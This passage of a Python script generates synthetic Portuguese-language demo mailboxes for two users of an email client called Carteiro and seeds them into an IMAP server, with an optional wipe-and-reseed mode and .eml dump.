        ], box_in="Família", start_days=(60, 300), participants=["caio", "alice", "tia"])
        # Projetos (with Bob)
        self.thread("Projeto Carteiro: lista de tarefas", [
            ("bob", 0, "Alice, montei a lista de tarefas do Carteiro:\n\n- [ ] IDLE\n- [ ] QRESYNC\n- [ ] Busca\n"
                       "- [ ] Anexos\n\nO que acha da prioridade?"),
            ("alice", 4, "Acho que IDLE primeiro, depois anexos. Busca pode esperar."),
            ("bob", 24, "Combinado. Já comecei o IDLE numa conexão separada."),
            ("alice", 72, "IDLE funcionando! Agora os anexos. 🚀"),
        ], box_in="Projetos", participants=["bob", "alice"], start_days=(10, 90))

    def alice_sent(self, count):
        for i in range(count):
            key = self.rng.choice(FRIENDS + ["bob", "bob", "mae"])
            date = self.when(500, 0, 1.3)
            subject = self.rng.choice(SUBJECTS_PERSONAL)
            body = "%s,\n\n%s\n\nBeijos,\nAlice\n" % (P[key][0].split()[0], self.rng.choice(PARAGRAPHS))
            m = self.text(body, self.rng.choice([None, "quoted-printable"]))
            if i % 5 == 0:
                m.add_attachment(make_png(120, 90, 9000 + i), "image", "png", filename="foto_%d.png" % i)
            self.headers(m, formataddr(ALICE[:2]), self.addr(key), subject, date,
                         mid=self.msgid("example.test"), extra={"User-Agent": "Carteiro/0.1"})
            self.add("alice", m, date, "Sent", {"\\Seen"})
            if key == "bob":
                self.add("bob", m, date, "INBOX", {"\\Seen"} if self.rng.random() < 0.7 else set())

    def drafts_trash(self):
        date = self.when(3, 0, 1.0)
        m = self.text("Oi Inês,\n\nEstou pensando em voltar a Portugal em outubro e")
        self.headers(m, formataddr(ALICE[:2]), self.addr("ines"), "Outubro?", date, mid=self.msgid("example.test"))
        self.add("alice", m, date, "Drafts", {"\\Draft", "\\Seen"})
        date = self.when(10, 0, 1.0)
        m = self.text("Prezado Sérgio,\n\n(rascunho) Gostaria de pedir um orçamento para o banheiro também.\n")
        m.add_attachment(make_png(80, 60, 4242), "image", "png", filename="banheiro.png")
        self.headers(m, formataddr(ALICE[:2]), self.addr("sergio"), "Orçamento do banheiro", date,
                     mid=self.msgid("example.test"))
        self.add("alice", m, date, "Drafts", {"\\Draft", "\\Seen"})
        date = self.when(20, 0, 1.0)
        m = self.text("")
        self.headers(m, formataddr(ALICE[:2]), None, "", date, mid=self.msgid("example.test"))
        self.add("alice", m, date, "Drafts", {"\\Draft", "\\Seen"})
        self.personal(4, box="Trash", max_days=60)
        self.newsletter(2, box="Trash", max_days=60)


def build(seed, anchor):
    g = Gen(seed, anchor)
    # ---- alice
    g.all_threads()                       # ~35 INBOX + Sent + Projetos + Obra + Família
    g.personal(95)
    g.latin1(18)
    g.newsletter(48)
    g.transactional(30)
    g.notifications(28)
    g.international()
    g.long_mail()
    g.attachments_personal(22)
    g.edge_cases()
    g.junk()
    g.alice_sent(16)
    g.drafts_trash()
    # Archive: older mail, all read
    g.personal(18, box="Archive", min_days=300, max_days=540)
    g.newsletter(8, box="Archive", min_days=300, max_days=540)
    g.transactional(8, box="Archive", min_days=300, max_days=540)
    g.attachments_personal(6, box="Archive", min_days=300, max_days=540)
    # Família / Projetos extras, receipts folder
    g.attachments_personal(6, box="Família", who=["mae", "tia", "caio"])
    g.personal(4, box="Projetos")
    g.transactional(10, box="Recibos & Faturas")
    # ---- bob (threads and alice's Sent already put ~15 messages in his mailbox)
    g.personal(8, owner="bob", skew=1.0, max_days=300)
    g.newsletter(4, owner="bob", max_days=200)
    g.notifications(4, owner="bob")
    g.attachments_personal(2, owner="bob", max_days=200)
    return g


# --------------------------------------------------------------------------- seeding

CUSTOM_FOLDERS = ["Projetos", "Projetos/Obra", "Família", "Recibos & Faturas"]


def connect(host, port, user):
    imap = imaplib.IMAP4(host, port)
    check(imap.login(user, DEMO_PASSWORD), "LOGIN %s" % user)
    return imap


class Layout:
    """Where the server keeps a user's folders: the personal namespace's prefix and hierarchy
    delimiter (RFC 2342). Dovecot and Cyrus put folders beside INBOX with "/"; Courier puts
    them under "INBOX." with ".". The demo's folder names are written with "/"."""

    NAMESPACE_RE = re.compile(rb'^\(\("((?:\\.|[^"\\])*)" (?:"((?:\\.|[^"\\])*)"|NIL)')

    def __init__(self, imap):
        self.prefix, self.delimiter = "", "/"
        if "NAMESPACE" in imap.capabilities:
            check(imap._simple_command("NAMESPACE"), "NAMESPACE")
            data = imap.untagged_responses.pop("NAMESPACE", [b""])[0] or b""
            m = self.NAMESPACE_RE.match(data)
            if m:
                self.prefix = m.group(1).decode()
                self.delimiter = (m.group(2) or b"/").decode()

    def wire(self, box):
        """The modified UTF-7 name of the demo folder `box` on this server."""
        if box == "INBOX":
            return box
        return mutf7_encode(self.prefix + box.replace("/", self.delimiter))


def inbox_count(imap):
    data = check(imap.status("INBOX", "(MESSAGES)"), "STATUS")
    m = re.search(rb"MESSAGES (\d+)", data[0])
    return int(m.group(1)) if m else 0


def wipe(imap, layout):
    boxes = list_mailboxes(imap)
    specials = ("\\drafts", "\\sent", "\\trash", "\\junk", "\\archive")

    def empty(name):
        typ, data = imap.select(quote(name))
        if typ == "OK" and int(data[0] or 0) > 0:
            imap.store("1:*", "+FLAGS.SILENT", "(\\Deleted)")
            imap.expunge()
        if typ == "OK":
            imap.close()

    # delete custom folders (children first), empty INBOX and the special-use ones (and those
    # a server will not delete: Courier keeps its Trash, Cyrus its special-use folders)
    for flags, name in sorted(boxes, key=lambda b: -b[1].count(layout.delimiter)):
        if name.upper() == "INBOX" or any(s in flags.lower() for s in specials):
            empty(name)
            continue
        typ, _ = imap.delete(quote(name))
        if typ == "OK":
            imap.unsubscribe(quote(name))
        else:
            empty(name)


def seed_user(host, port, user, msgs, force):
    imap = connect(host, port, user)
    try:
        n = inbox_count(imap)
        if n and not force:
            print("%s: INBOX already has %d messages, skipping (use --force to re-seed)" % (user, n))
            return 0
        layout = Layout(imap)
        if force:
            wipe(imap, layout)
        existing = {name for _, name in list_mailboxes(imap)}
        wanted = sorted({m.box for m in msgs} | set(CUSTOM_FOLDERS if user == ALICE[1] else []),
                        key=lambda b: (b.count("/"), b))
        for box in wanted:
            enc = layout.wire(box)
            if enc not in existing and box != "INBOX":
                check(imap.create(quote(enc)), "CREATE %s" % box)
                check(imap.subscribe(quote(enc)), "SUBSCRIBE %s" % box)
        # oldest first, so UIDs follow dates like in a real mailbox
        for m in sorted(msgs, key=lambda x: x.date):
            flags = "(%s)" % " ".join(sorted(m.flags)) if m.flags else None
            check(imap.append(quote(layout.wire(m.box)), flags, imaplib.Time2Internaldate(m.date), m.raw),
                  "APPEND to %s" % m.box)
        counts = {}
        for m in msgs:
            counts[m.box] = counts.get(m.box, 0) + 1
        unread = sum(1 for m in msgs if m.box == "INBOX" and "\\Seen" not in m.flags)
        print("%s: %d messages — %s (INBOX unread: %d)" % (
            user, len(msgs), ", ".join("%s %d" % (b, counts[b]) for b in sorted(counts)), unread))
        return len(msgs)
    finally:
        try:
            imap.logout()
        except Exception:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, default=143)
    ap.add_argument("--force", action="store_true", help="delete the demo users' mail and seed again")
    ap.add_argument("--seed", default="carteiro-demo-1")
    ap.add_argument("--anchor", help="date the newest mail is relative to (YYYY-MM-DD, default today)")
    ap.add_argument("--dump", metavar="DIR", help="also write every message as DIR/<user>/<n>.eml")
    args = ap.parse_args()

    if args.anchor:
        anchor = dt.datetime.strptime(args.anchor, "%Y-%m-%d").replace(hour=18, tzinfo=dt.timezone.utc)
    else:
        today = dt.datetime.now(dt.timezone.utc)
        anchor = today.replace(hour=18, minute=0, second=0, microsecond=0)
        if anchor > today:
            anchor = today.replace(microsecond=0)
    t0 = time.time()
    todo = []
    for user in (ALICE[1], BOB[1]):
        imap = connect(args.host, args.port, user)
        n = inbox_count(imap)
        imap.logout()
        if n and not args.force:
            print("%s: INBOX already has %d messages, skipping (use --force to re-seed)" % (user, n))
        else:
            todo.append(user)
    if not todo and not args.dump:
        return 0
    g = build(args.seed, anchor)
    if args.dump:
        import os
        for user, msgs in (("alice", g.alice), ("bob", g.bob)):
            os.makedirs(os.path.join(args.dump, user), exist_ok=True)
            for i, m in enumerate(sorted(msgs, key=lambda x: x.date)):
                with open(os.path.join(args.dump, user, "%04d.eml" % i), "wb") as f:
                    f.write(m.raw)
    for user, msgs in ((ALICE[1], g.alice), (BOB[1], g.bob)):
        if user in todo:
            seed_user(args.host, args.port, user, msgs, args.force)
    print("done in %.1f s" % (time.time() - t0))
    return 0


if __name__ == "__main__":
    sys.exit(main())
